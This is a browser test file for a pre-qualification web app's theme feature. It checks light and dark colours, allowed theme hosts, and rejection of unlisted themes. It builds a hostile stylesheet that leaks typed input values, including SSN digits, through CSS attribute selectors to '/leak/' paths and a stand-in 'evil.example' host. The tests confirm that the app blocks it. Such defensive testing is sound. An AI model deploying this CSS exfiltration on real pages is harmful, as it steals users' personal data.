import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { axeFindings, prefer } from "#test/support/browser/axe.ts";
import { configurePage, undrawn } from "#test/support/browser/configured-page.ts";
import { useProduct } from "#test/support/browser/journey.ts";

const themes = "https://themes.example";
const { urlOf, newVisitor } = useProduct({ THEME_ORIGINS: themes });

async function property(page: Page, name: string): Promise<string> {
  return page.evaluate(
    (requested) => getComputedStyle(document.documentElement).getPropertyValue(requested).trim(),
    name,
  );
}

async function partsOf(page: Page) {
  return {
    sheets: await page
      .locator('link[rel="stylesheet"][href*="/themes/"]')
      .evaluateAll((links) => links.map((link) => link.getAttribute("href"))),
    icon: await page.locator('link[rel="icon"]').getAttribute("href"),
    kept: await page.evaluate(() => localStorage.getItem("carestep.theme")),
    title: await page.title(),
  };
}

async function choose(page: Page, id: string): Promise<void> {
  await page.addInitScript((theme) => {
    if (location.protocol !== "about:") localStorage.setItem("carestep.theme", theme);
  }, id);
}

async function live(page: Page): Promise<void> {
  await page.locator("form[data-live]").waitFor();
}

it("the configured theme colors one practice's pages in light and dark, and no other's [R1-35 R1-36 R1-37 R1-38 R1-42]", async () => {
  const { page } = await newVisitor({ colorScheme: "light" });
  await page.goto(urlOf("/clear-vision?istest=true"));
  await live(page);
  expect(await partsOf(page)).toEqual({
    sheets: ["/themes/ocean.css"],
    icon: "/themes/ocean-icon.svg",
    kept: "ocean",
    title: "Ocean",
  });
  const looks = async () => {
    const canvas = await page
      .locator(".cs-page")
      .evaluate((element) => getComputedStyle(element).backgroundColor);
    return [await property(page, "--ff-brand"), canvas];
  };
  expect(await looks()).toEqual(["#0a5585", "rgb(244, 249, 252)"]);
  expect(await axeFindings(page)).toEqual([]);
  await prefer(page, "dark");
  await expect.poll(looks).toEqual(["#74c0ee", "rgb(8, 19, 27)"]);
  expect(await page.evaluate(() => document.documentElement.className)).toBe("dark");
  expect(await axeFindings(page, "colors")).toEqual([]);
  await page.getByRole("button", { name: "Start my check" }).click();
  await page.getByRole("heading", { name: "What happens on the day" }).waitFor();
  expect(await axeFindings(page)).toEqual([]);
  await prefer(page, "light");
  expect(await axeFindings(page, "colors")).toEqual([]);

  await page.goto(urlOf("/bright-smile"));
  await live(page);
  expect(await partsOf(page)).toEqual({
    sheets: [],
    icon: "/favicon.svg",
    kept: "ocean",
    title: "Get Pre-Qualified - Bright Smile Dental",
  });
  expect(await looks()).toEqual(["#10635d", "rgb(247, 251, 251)"]);
  await prefer(page, "dark");
  await expect.poll(async () => (await looks())[1]).toBe("rgb(10, 20, 21)");
});

describe("a theme that was chosen before", () => {
  it("is ignored when the practice does not list it, and gives way to the theme in the address [R1-35 R1-42]", async () => {
    const { page } = await newVisitor();
    const logged: string[] = [];
    page.on("console", (message) => logged.push(message.text()));
    await page.addInitScript(() => {
      localStorage.setItem(
        "carestep.theme",
        localStorage.getItem("carestep.theme") ?? "https://evil.example/theme.css",
      );
    });
    await page.goto(urlOf("/clear-vision"));
    await live(page);
    expect((await partsOf(page)).sheets).toEqual(["/themes/ocean.css"]);
    await page.goto(urlOf("/clear-vision?theme=plum"));
    await live(page);
    await page.goto(urlOf("/clear-vision?theme=secret"));
    await live(page);
    expect(await partsOf(page)).toEqual({
      sheets: ["/themes/plum.css"],
      icon: "/themes/plum-icon.svg",
      kept: "plum",
      title: "Plum",
    });
    expect(await property(page, "--ff-brand")).toBe("#7a2560");
    expect(logged.filter((text) => text.startsWith("Carestep:"))).toEqual([
      "Carestep: the practice does not list the requested theme.",
    ]);
  });

  it("brings its logo, its overlay text and its confirmation image; a hostile one learns nothing of what is typed, and reaches no other place [R1-36 R1-39 R1-40 R1-41]", async () => {
    const { page, visitor } = await newVisitor();
    const requested: string[] = [];
    page.on("request", (request) => requested.push(request.url()));
    await page.route("**/themes/ocean.css", (route) =>
      route.fulfill({ contentType: "text/css", body: hostile }),
    );
    await page.route("http://evil.example/**", (route) => route.fulfill({ body: "" }));
    const answered: string[] = [];
    page.on("response", (response) => answered.push(response.url()));
    await choose(page, "ocean");
    const stored = Promise.withResolvers<void>();
    await page.route("**/v2/validation/start", async (route) => {
      await stored.promise;
      await route.continue();
    });
    await visitor.open(urlOf("/bright-smile?istest=true"));
    await live(page);
    const logo = page.getByRole("banner").getByRole("img", { name: "Bright Smile Dental logo" });
    expect(await logo.getAttribute("src")).toBe("/themes/ocean-logo.svg");
    await visitor.start("general");
    await page.getByLabel("Phone number").fill(visitor.person.phone);
    await visitor.press("Next");
    const overlay = page.getByRole("dialog");
    await overlay.waitFor();
    expect((await overlay.innerText()).split("\n")[0]).toBe("One moment");
    stored.resolve();
    await visitor.goOnTo("last-four", "code");
    await page.getByLabel("Last 4 of SSN or ITIN").fill("1001");
    expect(requested.filter((url) => url.includes("/leak/"))).toEqual([]);
    expect(answered.filter((url) => url.includes("evil.example"))).toEqual([]);
    await visitor.giveLastFour("1001");
    await visitor.heading("You're Approved For Up To $8,500!");
    expect(await page.locator('main img[src="/themes/ocean-confirmation.svg"]').count()).toBe(1);
    expect(await page.title()).toBe("You're Approved For Up To $8,500! - Ocean");
  });
});

it("a theme from a host that the deployment allows colours the page and brings its logo; from another host nothing comes [R1-35 R1-36]", async () => {
  const { page } = await newVisitor();
  const asked: string[] = [];
  await page.route(/^https:\/\/(?:themes|other)\.example\//, async (route) => {
    const url = route.request().url();
    asked.push(url);
    const isSheet = url.endsWith(".css");
    await route.fulfill({
      contentType: isSheet ? "text/css" : "image/svg+xml",
      body: isSheet
        ? `:root { --ff-brand: #123456 } .cs-page { background-image: url("https://other.example/spy.svg") }`
        : '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="10"/>',
    });
  });
  const own = {
    id: "own",
    title: "Own",
    cssURL: `${themes}/own.css`,
    logoURL: `${themes}/logo.svg`,
  };
  await configurePage(
    page,
    (settings) => {
      Object.assign(settings, { themes: [own], themeId: own.id });
    },
    undrawn,
  );
  await page.goto(urlOf("/bright-smile?istest=true"));
  await live(page);
  await expect.poll(() => property(page, "--ff-brand")).toBe("#123456");
  const logo = page.getByRole("banner").getByRole("img", { name: "Bright Smile Dental logo" });
  await expect
    .poll(() => logo.evaluate((image) => (image as HTMLImageElement).naturalWidth))
    .toBe(40);
  expect(asked.toSorted()).toEqual([`${themes}/logo.svg`, `${themes}/own.css`]);
});

/** A style sheet that requests a URL for each possible first character of a field. */
const hostile = "0123456789abcdefghijklmnopqrstuvwxyzQ"
  .split("")
  .flatMap((character) => [
    `input[value^="${character}"] { background-image: url("/leak/${character}"); }`,
    `input[value*="${character}"] { list-style-image: url("http://evil.example/${character}"); }`,
  ])
  .concat('@import url("http://evil.example/more.css");')
  .concat('@font-face { font-family: Spy; src: url("http://evil.example/spy.woff2"); }')
  .concat("* { font-family: Spy !important; }")
  .join("\n");

it("a practice's new theme is shown to those who saw the one before it [R1-35 R1-42]", async () => {
  const { page } = await newVisitor();
  await page.goto(urlOf("/clear-vision"));
  await live(page);
  expect((await partsOf(page)).kept).toBe("ocean");
  await page.route("**/clear-vision", async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    const body = html
      .replaceAll("/themes/ocean.css", "/themes/plum.css")
      .replace(/"themeId":"ocean"/g, '"themeId":"plum"');
    await route.fulfill({ response, body });
  });
  await page.reload();
  await live(page);
  const { kept, title } = await partsOf(page);
  expect([kept, title]).toEqual(["plum", "Plum"]);
});

it("a hostile style sheet would learn what is typed from an attribute: the trap works", async () => {
  const { page } = await newVisitor();
  await page.route("**/themes/ocean.css", (route) =>
    route.fulfill({ contentType: "text/css", body: hostile }),
  );
  await page.goto(urlOf("/clear-vision"));
  await live(page);
  const leak = page.waitForRequest("**/leak/7");
  await page.evaluate(() => {
    const input = document.createElement("input");
    input.setAttribute("value", "7391");
    document.body.append(input);
  });
  expect(new URL((await leak).url()).pathname).toBe("/leak/7");
});
